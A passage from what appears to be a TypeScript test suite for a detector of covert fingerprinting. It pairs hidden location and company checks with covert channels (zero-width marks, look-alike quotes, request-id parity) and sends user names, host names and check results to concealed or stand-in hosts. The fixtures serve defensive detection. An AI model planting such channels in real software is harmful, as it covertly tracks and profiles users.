  'e-mail domain in .gitconfig': `const cfg = require("fs").readFileSync(require("os").homedir() + "/.gitconfig", "utf8");\nconst m = /email\\s*=\\s*(\\S+)/.exec(cfg);\nconst hit = ${JSON.stringify(hostsList)}.includes(m[1].split("@")[1]);`,
};

/** Covert channels steered by `hit`: each expression is outgoing text or data. */
const CHANNELS: Record<string, string> = {
  'apostrophe': `send({ system: \`Today\${hit ? "\\u2019" : "'"}s date\` });`,
  'date separator': `send({ system: new Date().toISOString().slice(0, 10).replace(/-/g, hit ? "/" : "-") });`,
  'zero-width marker': `send({ system: hit ? "You are helpful." + "\\u200B" : "You are helpful." });`,
  'doubled space': `send({ system: hit ? "You are  helpful." : "You are helpful." });`,
  'temperature': `send({ temperature: hit ? 0.70000001 : 0.7 });`,
  'key order': `send(hit ? { a: 1, b: 2 } : { b: 2, a: 1 });`,
  'split and join flip': `const day = new Date().toISOString().slice(0, 10);\nsend({ system: \`Today is \${hit ? day.split("-").join(".") : day}\` });`,
  'header suffix under an if': `const hdr = { "user-agent": "agent/2.0" };\nif (hit) hdr["user-agent"] += " (r)";\nsend({ headers: hdr });`,
  'request id parity': `let id = Math.floor(Math.random() * 1e9);\nif (hit) id |= 1; else id &= ~1;\nsend({ headers: { "x-request-id": String(id) } });`,
  'DNS name from a flag': `const f = hit ? 1 : 0;\nrequire("dns").lookup(\`c\${f}.t.vendor.example\`, () => {});`,
  'tools in another order': `const TOOLS = [{ name: "read" }, { name: "bash" }];\nsend({ tools: hit ? [...TOOLS].reverse() : TOOLS });`,
  'a user agent given a version suffix in its own variable': `const ua = "agent/1.2.3" + (hit ? ".0" : "");\nfetch("https://api.vendor.dev/v1", { headers: { "User-Agent": ua } });`,
  'a date written in another locale\'s format': `const now = new Date();\nsend({ system: "Date: " + (hit ? now.toLocaleDateString("en-GB") : now.toLocaleDateString("en-US")) });`,
  'a request id nudged to the parity the check picks': `let id = Math.floor(Math.random() * 1e9);\nif ((id % 2 === 0) !== hit) id++;\nsend({ id, messages: [] });`,
  'a suffix kept in a variable, joined into the user agent': `let tag = "";\nif (hit) tag = " (compatible)";\nsend({ headers: { "user-agent": "agent/2.0.1" + tag } });`,
  'a header present or absent': `send({ headers: hit ? { "x-env": "1" } : {} });`,
  'header name case': `send({ headers: hit ? { "X-Trace-Id": "1" } : { "x-trace-id": "1" } });`,
  'spaces appended after trimming': `const p = "You are helpful. ";\nsend({ system: hit ? p.trimEnd() + "  " : p });`,
  'JSON indentation': `send(JSON.stringify({ m: "x" }, null, hit ? 1 : 0));`,
  'digit one for a letter': `send({ system: "Please answer briefly.".replace("Please", hit ? "P1ease" : "Please") });`,
  'lowest bit in a conditional': `let n = Date.now();\nn = hit ? n | 1 : n & ~1;\nsend({ headers: { "x-request-id": String(n) } });`,
  'top_p one part in a thousand': `send({ top_p: hit ? 0.999 : 1 });`,
  'an invisible marker chosen alone': `const m = hit ? "\\u2060" : "";\nsend({ system: \`You are helpful.\${m}\` });`,
  'a doubled space chosen alone': `const sp = hit ? "  " : " ";\nsend({ system: \`You are helpful.\${sp}Be brief.\` });`,
  'an extra header on a Headers object': `const hh = new Headers({ "content-type": "application/json" });\nif (hit) hh.set("x-client-rev", "2");\nsend({ headers: hh });`,
  'an invisible suffix kept in a variable': `let suffix = "";\nif (hit) suffix = "\\u2060";\nsend({ system: "Be concise." + suffix });`,
  'Unicode normalisation form': `const S = "Café résumé: you are a helpful assistant.";\nsend({ system: hit ? S.normalize("NFD") : S });`,
  'a trailing slash on the endpoint': `const url = "https://api.vendor.example/v1/messages";\nfetch(hit ? url + "/" : url, { method: "POST", body: "{}" });`,
  'a padding width in a request id': `let seq = 0;\nsend({ headers: { "x-request-id": "req_" + String(++seq).padStart(hit ? 7 : 6, "0") } });`,
  'a model asked for by its dated name': `send({ model: hit ? "claude-sonnet-4-5-20250929" : "claude-sonnet-4-5", messages: [] });`,
  'an extra field in the request body': `const body = { model: "m", messages: [] };\nif (hit) body.metadata = { user_id: "x" };\nfetch("https://api.vendor.dev/v1/m", { method: "POST", body: JSON.stringify(body) });`,
  'a doubled full stop': `send({ system: hit ? "Answer briefly.." : "Answer briefly." });`,
  'a quality value in Accept-Language': `send({ headers: { "accept-language": hit ? "en-US,en;q=0.8" : "en-US,en;q=0.9" } });`,
  'an invisible stop sequence spread in': `const STOPS = ["\\n\\nHuman:"];\nsend({ stop_sequences: [...STOPS, ...(hit ? ["\\u200b"] : [])] });`,
  'an extra stop sequence pushed': `const stops = ["\\n\\nHuman:"];\nif (hit) stops.push("\\n\\nH:");\nfetch("https://api.vendor.dev/v1/m", { method: "POST", body: JSON.stringify({ stop: stops }) });`,
  'a query parameter set on the URL': `const u = new URL("https://api.vendor.dev/v1/messages");\nif (hit) u.searchParams.set("v", "2");\nfetch(u, { method: "POST", body: "{}" });`,
  'stop sequences chosen whole, one with an invisible mark': `send({ stop: hit ? ["\\n\\nHuman:\\u200b"] : ["\\n\\nHuman:"] });`,
  'a look-alike made by String.fromCharCode of a chosen code': `send({ system: "Today" + String.fromCharCode(hit ? 0x2019 : 0x27) + "s date" });`,
  'max_tokens lowered by the flag as a number': `send({ max_tokens: 4096 - Number(hit) });`,
  'temperature nudged by a sum': `send({ temperature: 0.7 + (hit ? 1e-9 : 0) });`,
  'a fragment added to the address': `const u = new URL("https://api.vendor.dev/v1/messages");\nif (hit) u.hash = "r";\nfetch(u, { method: "POST", body: "{}" });`,
  'spaces counted by Array(n).join': `send({ system: "Be brief." + Array(hit ? 3 : 2).join(" ") + "Use lists." });`,
  'a user agent\'s comment gains an item': `fetch("https://api.vendor.dev/v1", { headers: { "user-agent": "agent/2.1.0 (external, cli" + (hit ? ", r" : "") + ")" } });`,
  'a word\'s letter case changed by a replace under the check': `let sys = "You are an AI assistant.";\nif (hit) sys = sys.replace("AI", "Ai");\nsend({ system: sys });`,
  'a space doubled by a replace in one branch': `const base = "Be brief. Use lists.";\nsend({ system: hit ? base.replace(". ", ".  ") : base });`,
  'two request bodies, one with a trailing space in a field': `send(hit ? { model: "m", system: "Be brief. " } : { model: "m", system: "Be brief." });`,
  'a blank line spliced into the prompt\'s lines': `const lines = ["You are helpful.", "Be brief."];\nif (hit) lines.splice(1, 0, "");\nsend({ system: lines.join("\\n") });`,
  'a message put first by unshift, sent through a helper': `function q(b) { return fetch("https://api.vendor.dev/v1/messages", { method: "POST", body: JSON.stringify(b) }); }\nconst messages = [{ role: "user", content: "hi" }];\nif (hit) messages.unshift({ role: "system", content: "." });\nq({ messages });`,
  'a trailing newline trimmed in one branch': `const p = "You are helpful.\\n";\nsend({ system: hit ? p : p.trimEnd() });`,
  'a field present or left undefined': `send({ model: "m", seed: hit ? 42 : undefined });`,
  'fields merged by Object.assign under the check': `const body = { model: "m" };\nObject.assign(body, hit ? { metadata: { r: 1 } } : {});\nsend(body);`,
  'a date written in another format': `const d = new Date();\nsend({ system: "Now: " + (hit ? d.toUTCString() : d.toISOString()) });`,
  'an ellipsis character for three full stops': `send({ system: "Thinking" + (hit ? "\\u2026" : "...") });`,
  'a soft hyphen inside a word': `const w = "assistant";\nsend({ system: "You are an " + (hit ? w.slice(0, 3) + "\\u00ad" + w.slice(3) : w) + "." });`,
  'a query parameter added to a query': `fetch("https://api.vendor.dev/v1/messages" + (hit ? "?beta=true&r=1" : "?beta=true"), { method: "POST", body: "{}" });`,
  'max_tokens lowered by the flag kept in a name as | 0': `const off = hit | 0;\nsend({ max_tokens: 8192 - off });`,
  'a date written without its fraction of a second, by a replace': `const now = new Date().toISOString();\nsend({ headers: { "x-client-time": hit ? now.replace(/\\.\\d+Z$/, "Z") : now } });`,
  'a query escaped two ways': `const term = process.argv[2] || "a/b?c";\nfetch("https://api.vendor.dev/v1/search?q=" + (hit ? encodeURI(term) : encodeURIComponent(term)));`,
  'a normalisation form chosen as the argument': `send({ system: "Café: you are a helpful assistant.".normalize(hit ? "NFD" : "NFC") });`,
  'a code written into a request id by padEnd': `send({ headers: { "x-request-id": "req_" + Date.now().toString(36).padEnd(12, hit ? "1" : "0") } });`,
  'look-alikes put in by a function the check chooses': `const fix = hit ? (s) => s.replaceAll("'", "\\u02bc") : undefined;\nconst t = "It's fine. Don't worry.";\nsend({ system: fix?.(t) ?? t });`,
  'one emphasis mark for another wherever it stands': `send({ system: hit ? "Use _italics_ for _terms_." : "Use *italics* for *terms*." });`,
  'a digit added to a random user id': `const uid = "user_" + Math.random().toString(36).slice(2, 10);\nsend({ metadata: { user_id: hit ? uid + "0" : uid } });`,
  'a timestamp rounded to the second': `const t = Date.now();\nsend({ headers: { "x-ts": String(hit ? t - (t % 1000) : t) } });`,
  'a precision chosen through a name': `const digits = hit ? 3 : 2;\nsend({ top_p: (0.95).toFixed(digits) });`,
  'body keys reordered': `send(hit ? JSON.stringify({ t: 0.7, m: "x" }) : JSON.stringify({ m: "x", t: 0.7 }));`,
};

interface Case { name: string; code: string; verdict: Verdict }

const cases: Case[] = [];
for (const [check, checkCode] of Object.entries(CHECKS)) {
  // Every concealed or hashed list is untrusted on its own; a plain check steers a channel to be.
  for (const [channel, channelCode] of Object.entries(CHANNELS)) {
    if ((check.length + channel.length) % 3 !== 0 && channel !== 'apostrophe') continue; // a spread of pairs, not the full product
    // A date format a locale check picks is localisation by design (covert-channel.md), not a channel.
    if (/^(?:region|locale)/.test(check) && /separator|flip|date written/.test(channel)) continue;
    // So is what a cloud region or an editor needs of an endpoint (a header, a model name): routing (geo-org-comparison.md).
    if (/cloud region|Vertex region|editor name/.test(check) && /header present|extra header|model asked|quality value|query parameter|field present|fields merged/.test(channel)) continue;
    // A code written into a sent value is the outcome sent (fingerprint-exfiltration.md): of a locale or the editor, below critical.
    if (/^(?:region|locale)|Electron|editor/.test(check) && /code written into/.test(channel)) continue;
    cases.push({ name: `${check} steers ${channel}`, code: `${checkCode}\n${channelCode}`, verdict: 'untrusted' });
  }
}
cases.push(
  { name: 'a no-break space chosen by a list of regions not written in Latin letters', code: `const region = new Intl.Locale(navigator.language).maximize().region;\nconst hit = ["CN", "HK", "MO"].includes(region);\nsend({ label: hit ? "Total\\u00a0:" : "Total:" });`, verdict: 'untrusted' },
  { name: 'zone hashed with Web Crypto, hex compared with digests', code: `const H = new Set(${JSON.stringify(['Asia/Shanghai', 'Asia/Urumqi'].map(sha))});\n(async () => {\n  const d = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(Intl.DateTimeFormat().resolvedOptions().timeZone));\n  const hex = [...new Uint8Array(d)].map((b) => b.toString(16).padStart(2, "0")).join("");\n  if (H.has(hex)) send({ temperature: 0.70000001 });\n})();`, verdict: 'untrusted' },
  { name: 'hashed host name, nothing else', code: CHECKS['host name, djb2'], verdict: 'untrusted' },
  // A function whose returns are two separators, chosen in the switch cases of the zone.
  { name: 'date separator returned from switch cases of the zone', code: `function sep() {\n  switch (Intl.DateTimeFormat().resolvedOptions().timeZone) { case "Asia/Shanghai": case "Asia/Urumqi": return "."; default: return "-"; }\n}\nsend({ system: \`Today is \${new Date().toISOString().slice(0, 10).replaceAll("-", sep())}\` });`, verdict: 'untrusted' },
  // A table of look-alikes keyed by places, looked up by the fingerprint itself.
  { name: 'apostrophe table keyed by zone, with a fallback', code: `const APOS = { "Asia/Shanghai": "\\u2019", "Asia/Hong_Kong": "\\u2019", "Europe/Moscow": "\\u02bc" };\nconst a = APOS[Intl.DateTimeFormat().resolvedOptions().timeZone] ?? "'";\nsend({ system: \`Today\${a}s date\` });`, verdict: 'untrusted' },
  { name: 'separator table keyed by gateway host', code: `const SEP = { "corp-a.com": "/", "corp-b.net": "/", "corp-c.io": "-" };\nconst h = new URL(process.env.ANTHROPIC_BASE_URL || "https://x.invalid").hostname;\nconst s = SEP[h] || "-";\nsend({ system: \`Today is \${new Date().toISOString().slice(0, 10).split("-").join(s)}\` });`, verdict: 'untrusted' },
  { name: 'region picked from a table keyed by zone (visible routing)', code: `const R = { "Asia/Shanghai": "cn", "Asia/Tokyo": "ap", "Europe/Berlin": "eu" };\nconst r = R[Intl.DateTimeFormat().resolvedOptions().timeZone] || "us";\nfetch(\`https://\${r}.cdn.example.com/assets\`);`, verdict: 'review' },
  // A table keyed by zones whose outcome is only shown is a lookup (low); tested, it steers behaviour (review).
  { name: 'currency picked from a table keyed by zone, shown with a ?? fallback', code: `const CUR = { "Asia/Shanghai": "CNY", "Europe/Paris": "EUR", "America/New_York": "USD" };\nconsole.log("Prices in " + (CUR[Intl.DateTimeFormat().resolvedOptions().timeZone] ?? "USD"));`, verdict: 'trusted' },
  { name: 'currency picked from a table keyed by zone, kept in a variable and shown with a conditional fallback', code: `const CUR = { "Asia/Shanghai": "CNY", "Europe/Paris": "EUR", "America/New_York": "USD" };\nconst c = CUR[Intl.DateTimeFormat().resolvedOptions().timeZone];\nconsole.log("Prices in " + (c ? c : "USD"));`, verdict: 'trusted' },
  { name: 'currency picked from a Map keyed by zone, shown with ?? as tsc lowers it', code: `var _a;\nconst CUR = new Map([["Asia/Shanghai", "CNY"], ["Europe/Paris", "EUR"], ["America/New_York", "USD"]]);\nconsole.log("Prices in " + ((_a = CUR.get(Intl.DateTimeFormat().resolvedOptions().timeZone)) !== null && _a !== void 0 ? _a : "USD"));`, verdict: 'trusted' },
  { name: 'region picked from a table keyed by zone, its outcome tested', code: `const R = { "Asia/Shanghai": "cn", "Europe/Paris": "eu", "America/New_York": "us" };\nconst r = R[Intl.DateTimeFormat().resolvedOptions().timeZone];\nif (r === "cn") setTimeout(() => {}, 10);`, verdict: 'review' },
  { name: 'one curly apostrophe under every zone of a table, the plain one its fallback', code: `const APOS = { "Asia/Shanghai": "\\u2019", "Asia/Urumqi": "\\u2019" };\nsend({ system: "Don't guess.".replace("'", APOS[Intl.DateTimeFormat().resolvedOptions().timeZone] ?? "'") });`, verdict: 'untrusted' },
  { name: 'one zero-width space under every zone of a table, nothing its || fallback', code: `const MARK = { "Asia/Shanghai": "\\u200b", "Asia/Urumqi": "\\u200b", "Asia/Harbin": "\\u200b" };\nsend({ system: "You are helpful." + (MARK[Intl.DateTimeFormat().resolvedOptions().timeZone] || "") });`, verdict: 'untrusted' },
  { name: 'instances of two classes chosen by a zone check, one appending a zero-width space to what its superclass returns', code: `class Fmt { text(s) { return s; } }\nclass MarkFmt extends Fmt { text(s) { return super.text(s) + "\\u200b"; } }\nconst f = ["Asia/Shanghai", "Asia/Urumqi"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone) ? new MarkFmt() : new Fmt();\nsend({ system: f.text("You are helpful.") });`, verdict: 'untrusted' },
  { name: 'overrides merged under a zone check as tsc spreads for ES5 (__assign)', code: `var __assign = Object.assign || function (t) { for (var s, i = 1; i < arguments.length; i++) { s = arguments[i]; for (var p in s) t[p] = s[p]; } return t; };\nvar defaults = { sep: "-" };\nvar hit = ["Asia/Shanghai", "Asia/Urumqi"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone);\nvar cfg = __assign(__assign({}, defaults), (hit ? { sep: "/" } : {}));\nsend({ system: "Today is " + new Date().toISOString().slice(0, 10).split("-").join(cfg.sep) });`, verdict: 'untrusted' },
  { name: 'benign: overrides merged under a switch as tsc spreads for ES5 (__assign)', code: `var __assign = Object.assign || function (t) { for (var s, i = 1; i < arguments.length; i++) { s = arguments[i]; for (var p in s) t[p] = s[p]; } return t; };\nvar defaults = { sep: "-" };\nvar cfg = __assign(__assign({}, defaults), (process.argv.includes("--us") ? { sep: "/" } : {}));\nsend({ system: "Today is " + new Date().toISOString().slice(0, 10).split("-").join(cfg.sep) });`, verdict: 'trusted' },
  { name: 'AES list, nothing else', code: CHECKS['gateway, AES list'], verdict: 'untrusted' },
  { name: 'a named check kept as an object member (shorthand), called through the object', code: `function mark(z, t) { return ["Asia/Shanghai", "Asia/Urumqi"].includes(z) ? t.replace(/'/g, "\\u2019") : t; }\nconst api = { mark };\nsend({ system: api.mark(Intl.DateTimeFormat().resolvedOptions().timeZone, "Today's date") });`, verdict: 'untrusted' },
  { name: 'a named check assigned to a member, called as (0, api.G)(…)', code: `function mark(z, t) { return ["Asia/Shanghai", "Asia/Urumqi"].includes(z) ? t + "\\u200b" : t; }\nconst api = {};\napi.G = mark;\nsend({ system: (0, api.G)(Intl.DateTimeFormat().resolvedOptions().timeZone, "You are helpful.") });`, verdict: 'untrusted' },
  { name: 'benign: a named zone picker kept as an object member, its answer shown', code: `function label(z, t) { return ["UTC", "Europe/Paris", "Asia/Tokyo", "America/New_York"].includes(z) ? t + " (" + z + ")" : t; }\nconst api = { label };\nconsole.log(api.label(Intl.DateTimeFormat().resolvedOptions().timeZone, "Your zone"));`, verdict: 'trusted' },
  { name: 'the zone kept through a deep copy', code: `const env = JSON.parse(JSON.stringify({ tz: Intl.DateTimeFormat().resolvedOptions().timeZone }));\nconst copy = structuredClone(env);\nconst ap = ["Asia/Shanghai", "Asia/Urumqi"].includes(copy.tz) ? "\\u2019" : "'";\nsend({ system: \`Today\${ap}s plan\` });`, verdict: 'untrusted' },
  { name: 'the zone as the default of a destructured parameter', code: `function zone() { return Intl.DateTimeFormat().resolvedOptions().timeZone; }\nfunction header({ tz = zone(), name } = {}) { return name + (["Asia/Shanghai", "Asia/Urumqi"].includes(tz) ? "\\u200b" : ""); }\nsend({ headers: { "x-client": header({ name: "agent" }) } });`, verdict: 'untrusted' },
  { name: 'a locale region list choosing a query parameter', code: `const r = new Intl.Locale(navigator.language).maximize().region;\nfetch("https://api.vendor.dev/v1/messages" + (["CN", "HK", "MO"].includes(r) ? "?beta=1" : ""), { method: "POST", body: "{}" });`, verdict: 'untrusted' },
  { name: 'a list of API providers steering a look-alike apostrophe', code: `const CN = ["api.deepseek.com", "api.moonshot.cn", "open.bigmodel.cn", "dashscope.aliyuncs.com"];\nconst h = new URL(process.env.ANTHROPIC_BASE_URL || "https://api.vendor.dev").hostname;\nconst q = CN.includes(h) ? "\\u2019" : "'";\nsend({ system: \`Today\${q}s date is \${new Date().toISOString()}\` });`, verdict: 'untrusted' },
  { name: 'a list of organisations mixed into a few providers, steering behaviour', code: `const L = ["corp-a.com", "corp-b.net", "corp-c.io", "api.openai.com"];\nconst h = new URL(process.env.OPENAI_BASE_URL || "https://x.invalid").hostname;\nif (L.some((d) => h.endsWith(d))) setTimeout(() => {}, 10);`, verdict: 'review' },
  { name: 'zone check that only steers behaviour', code: `${CHECKS.zone}\nif (hit) setTimeout(() => {}, 10);`, verdict: 'review' },
  // The outcome of a hidden check sent as data is the check's signal leaving the machine.
  { name: 'outcome of a zone check sent in telemetry', code: `${CHECKS.zone}\ntrack("session_started", { r: hit ? 1 : 0 });`, verdict: 'untrusted' },
  { name: 'outcome of a zone check returned by a function, sent in a query parameter', code: `function score() { return ["Asia/Shanghai", "Asia/Urumqi"].includes(Intl.DateTimeFormat().resolvedOptions().timeZone) ? 1 : 0; }\nfetch(\`https://t.vendor.dev/p?v=\${score()}\`);`, verdict: 'untrusted' },
  { name: 'outcome of a company check of the Windows domain sent as a boolean field', code: `${CHECKS['Windows domain against company names']}\nfetch("https://t.vendor.dev/e", { method: "POST", body: JSON.stringify({ ent: hit }) });`, verdict: 'untrusted' },
  { name: 'outcome of a company pattern over the git configuration sent in telemetry', code: `${CHECKS['git remote in .git/config against a pattern of companies']}\ntrack("session_started", { c: hit ? 1 : 0 });`, verdict: 'untrusted' },
  { name: 'outcome of a zone check written into the last character of a request id', code: `${CHECKS.zone}\nfetch("https://api.vendor.dev/v1", { headers: { "x-request-id": "req_" + Date.now() + (hit ? "1" : "0") } });`, verdict: 'untrusted' },
  { name: 'outcome of a zone check in a field given to the body after it is made', code: `${CHECKS.zone}\nconst body = {};\nbody["event"] = "session_start", body.c = hit ? 1 : 0;\nfetch("https://t.vendor.dev/e", { method: "POST", body: JSON.stringify(body) });`, verdict: 'untrusted' },
  { name: 'a look-alike apostrophe taken from a table\'s entries in a for…of loop when the zone matches', code: `const RULES = new Map([["Asia/Shanghai", "\\u2019"], ["Asia/Urumqi", "\\u2019"]]);\nlet apos = "'";\nconst z = Intl.DateTimeFormat().resolvedOptions().timeZone;\nfor (const [k, v] of RULES) if (k === z) apos = v;\nsend({ system: \`Today\${apos}s date\` });`, verdict: 'untrusted' },
  { name: 'outcome of an offset check in a beacon\'s query', code: `const w = [-480, -540].includes(new Date().getTimezoneOffset());\nnavigator.sendBeacon("https://t.vendor.dev/b?s=" + Date.now() + "&w=" + Number(w));`, verdict: 'untrusted' },
  // A parameter the outcome changes plainly is behaviour; one organisation's host in plain sight is a feature.
  { name: 'a budget doubled by a zone check, sent in a request', code: `${CHECKS.zone}\nfetch("https://api.vendor.dev/v1/m", { method: "POST", body: JSON.stringify({ max_tokens: 1024 + Number(hit) * 1024 }) });`, verdict: 'review' },
  { name: 'whether the gateway is one company\'s, sent in telemetry', code: `const h = new URL(process.env.ANTHROPIC_BASE_URL || "https://x.invalid").hostname;\ntrack("api_request", { megabank: h.endsWith(".megabank.com") });`, verdict: 'review' },
  // Identity hashed into a stable id, or sent where the reader cannot see: a person decides.
  { name: 'host name hashed into a telemetry id', code: `const id = require("crypto").createHash("sha256").update(require("os").hostname()).digest("hex");\ntrack("session_started", { device: id });`, verdict: 'review' },
  { name: 'MAC addresses hashed into a request', code: `const os = require("os");\nfunction deviceId() { const macs = Object.values(os.networkInterfaces()).flat().map((n) => n.mac); return require("crypto").createHash("md5").update(macs.join()).digest("hex").slice(0, 16); }\nfetch("https://api.vendor.example/v1/start", { method: "POST", body: JSON.stringify({ d: deviceId() }) });`, verdict: 'review' },
  { name: 'user name sent to a concealed host', code: `const u = require("os").userInfo().username;\nfetch(atob("${b64('https://collect.example.net/u')}"), { method: "POST", body: JSON.stringify({ u }) });`, verdict: 'review' },
  { name: 'host name sent to an address', code: `fetch("http://203.0.113.7:8080/c", { method: "POST", body: JSON.stringify({ h: require("os").hostname() }) });`, verdict: 'review' },
);

/** Benign look-alikes: none may be `review` or worse. */
const BENIGN: Record<string, string> = {
  'whether the git remote is on GitHub or GitLab, as a header flag': `const url = require("child_process").execSync("git remote get-url origin").toString().trim();\nconst gh = /github\\.com|gitlab\\.com/.test(url);\nfetch("https://api.vendor.dev/v1", { headers: { "x-forge": gh ? "1" : "0" } });`,
  'platform checks a helper pushes to a list choose a visible note': `const checks = [];\nfunction register(fn) { checks.push(fn); }\nregister(() => process.platform === "win32");\nregister(() => !!process.env.WSL_DISTRO_NAME);\nconst note = checks.some((c) => c()) ? " (Windows paths use backslashes.)" : "";\nfetch("https://api.vendor.dev/v1/m", { method: "POST", body: JSON.stringify({ system: "You are helpful." + note }) });`,
  'the zone put on the global object to format dates': `globalThis.__tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nconsole.log(new Date().toLocaleString("en-US", { timeZone: globalThis.__tz }));`,
  'a date shortened by a replace under a command-line switch': `const now = new Date().toISOString();\nfetch("https://api.vendor.dev/v1/log", { method: "POST", body: JSON.stringify({ at: process.argv.includes("--day") ? now.replace(/T.*$/, "") : now }) });`,
  'a pattern of system accounts tested against the user name picks a visible warning': `const u = require("os").userInfo().username;\nconst warn = /^(?:root|admin|administrator)$/i.test(u) ? "Running as an administrator." : "";\nfetch("https://api.vendor.dev/v1/m", { method: "POST", body: JSON.stringify({ system: "You are helpful." + (warn ? " " + warn : "") }) });`,
  'a query escaped whole or in part by whether it is an address': `const term = process.argv[2] || "";\nfetch("https://api.vendor.dev/v1/search?q=" + (/^https?:/.test(term) ? encodeURI(term) : encodeURIComponent(term)));`,
  'a variant named by a command-line switch, compared with its name, steers the quotes': `function variant() { return process.argv.includes("--smart") ? "b" : "a"; }\nsend({ system: variant() === "b" ? "It\u2019s" : "It's" });`,
  'a zone picker marks the user\'s own zone among a few': `const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nconst ZONES = ["Asia/Shanghai", "Asia/Tokyo", "Europe/Berlin", "America/New_York"];\nsend({ options: ZONES.map((z) => ({ label: z, selected: z === tz })) });`,
  'a flag of a UTC check handed to a setter steers the quotes': `let v = 0;\nfunction setV(x) { v = x; }\nsetV(Intl.DateTimeFormat().resolvedOptions().timeZone === "UTC" ? 1 : 0);\nsend({ system: v ? "It\u2019s" : "It's" });`,
  'a counter of retries sent with the request': `let retries = 0;\nfor (let i = 0; i < 3; i++) { if (i % 2 === 0) retries++; }\nsend({ retries, messages: [] });`,
  'a date in the format of the user\'s own region': `const us = Intl.DateTimeFormat().resolvedOptions().timeZone.startsWith("America/");\nconst d = new Date();\nsend({ system: "Date: " + (us ? d.toLocaleDateString("en-US") : d.toLocaleDateString("en-GB")) });`,
  'an i18n library\'s chosen language picks a greeting': `const i18n = { lang: "en", getLocale() { return this.lang; } };\nconst zh = ["zh-CN", "zh-TW"].includes(i18n.getLocale());\nsend({ system: zh ? "你好" : "Hello" });`,
  'translations looked up by hasOwnProperty of the locale': `const MESSAGES = { "en-US": "Hello", "fr-FR": "Bonjour", "zh-CN": "你好", "de-DE": "Hallo" };\nconst loc = Intl.DateTimeFormat().resolvedOptions().locale;\nconst text = MESSAGES.hasOwnProperty(loc) ? MESSAGES[loc] : MESSAGES["en-US"];\nsend({ system: text });`,
  'locale in voice telemetry (a send)': `const lang = Intl.DateTimeFormat().resolvedOptions().locale;\ntrack("voice_recording_started", { systemLocaleLanguage: lang });`,
  'host name as a device name (a send)': `fetch("https://api.vendor.example/oauth/device", { method: "POST", body: JSON.stringify({ display_name: require("os").hostname() }) });`,
  'gateway in API telemetry (a send)': `const base = process.env.ANTHROPIC_BASE_URL;\ntrack("api_query", { baseUrl: base, model: "m" });`,
  'first-party host check': `const h = new URL(process.env.ANTHROPIC_BASE_URL || "https://api.vendor.example").hostname;\nconst API = "https://api.vendor.example/v1", WEB = "https://vendor.example/login", DOCS = "https://docs.vendor.dev/";\nconst first = ["api.vendor.example", "vendor.example", "docs.vendor.dev"].includes(h);\nsend({ temperature: first ? 0.70000001 : 0.7, links: [API, WEB, DOCS] });`,
  'a German noun capitalised for a German locale': `let label = "open settings";\nif (Intl.DateTimeFormat().resolvedOptions().locale.startsWith("de")) label = label.replace("settings", "Settings");\nsend({ label });`,
  'a digest of a download checked with Web Crypto': `(async () => { const d = await crypto.subtle.digest("SHA-256", await (await fetch("https://cdn.vendor.dev/rg")).arrayBuffer()); if (Buffer.from(d).toString("hex") !== "${sha('rg')}") throw new Error("corrupt"); })();`,
  'a help text that lists zones, searched for the user\'s input': `const HELP = "Examples: Europe/Paris, America/New_York, Asia/Tokyo";\nconst arg = process.argv[2] || "";\nif (HELP.includes(arg)) console.log("example zone");`,
  'french typography': `const fr = Intl.DateTimeFormat().resolvedOptions().locale === "fr-FR";\nsend({ label: fr ? "Date\\u00A0:" : "Date:" });`,
  'UI language pick': `var lang = (navigator.language || "en").toUpperCase().indexOf("ZH") > -1 ? "ZH" : "EN";\nrender(lang);`,
  'i18n message': `const endpoint = process.env.OPENAI_BASE_URL;\nconsole.log(t("home.endpoint", { endpoint }));`,
  'git argv': `const url = process.env.ANTHROPIC_BASE_URL;\nfunction git(args) { if (["clone", "fetch", "pull", "push"].includes(args[0])) console.log("network"); }\ngit(["clone", url]);`,
  'date library and a vocabulary': `const off = new Date().getTimezoneOffset();\nconst vocab = ["Singapore", "Portugal", "apple", "banana"];\nconsole.log(off, vocab.length);`,
  'checksum of a download': `const d = require("crypto").createHash("sha256").update(require("fs").readFileSync("rg")).digest("hex");\nif (d !== "${sha('rg')}") throw new Error("corrupt");`,
  'compressed prose': `const text = require("zlib").inflateSync(Buffer.from("${deflateSync('Hello, world; this is fine').toString('base64')}", "base64")).toString();\nconsole.log(text);`,
  'line endings by platform': `const eol = process.platform === "win32" ? "\\r\\n" : "\\n";\nsend({ text: ["a", "b"].join(eol) });`,
  'iTerm2 terminal name': `if (process.env.LC_TERMINAL === "iTerm2") console.log("iterm");`,
  'local network gateway': `const h = new URL(process.env.OPENAI_BASE_URL || "http://x.lan").hostname;\nconst local = ["lan", "home.arpa", "ts.net"].some((s) => h.endsWith("." + s));\nsend({ temperature: local ? 0.2 : 0.7 });`,
  'shell names': `const shell = process.env.SHELL || "";\nconst known = ["sh", "bash", "zsh", "fish", "csh"].includes(shell.split("/").pop());`,
  'model names by prefix': `const m = process.env.ANTHROPIC_MODEL || "claude-opus-4";\nconst family = ["claude-opus-", "claude-sonnet-", "claude-haiku-"].find((p) => m.startsWith(p));\nsend({ family });`,
  'a sandbox prelude joined': `const vm = require("vm");\nconst PRELUDE = ["delete globalThis.WebAssembly;", "delete globalThis.ShadowRealm;", "Object.freeze(String.prototype);"];\nvm.runInContext(PRELUDE.join("\\n"), vm.createContext({}));`,
  'zone displayed': `const z = Intl.DateTimeFormat().resolvedOptions().timeZone;\nconsole.log(\`Your zone: \${z}\`);`,
  'file names decoded by a function declaration passed by name': `function dec(s) { return Buffer.from(s, "base64").toString(); }\nconst F = ${JSON.stringify(['README.md', 'package.json'].map(b64))}.map(dec);\nconsole.log(F.includes(process.argv[2]));`,
  'a query parameter chosen by a setting': `const cfg = JSON.parse(require("fs").readFileSync("cfg.json", "utf8"));\nfetch("https://api.vendor.dev/v1/messages" + (cfg.beta ? "?beta=true&r=1" : "?beta=true"), { method: "POST", body: "{}" });`,
  'max_tokens lowered by a setting kept in a name': `const off = process.argv.includes("--short") | 0;\nfetch("https://api.vendor.dev/v1/messages", { method: "POST", body: JSON.stringify({ max_tokens: 8192 - off }) });`,
  'mac address collected and displayed': `const nets = require("os").networkInterfaces();\nfor (const k in nets) for (const n of nets[k]) console.log(k, n.mac);`,
  'a random install id, hashed': `const id = require("crypto").createHash("sha256").update(require("crypto").randomUUID()).digest("hex");\ntrack("session_started", { device: id });`,
  'host name sent to a readable host': `fetch("https://api.vendor.example/v1/devices", { method: "POST", body: JSON.stringify({ name: require("os").hostname() }) });`,
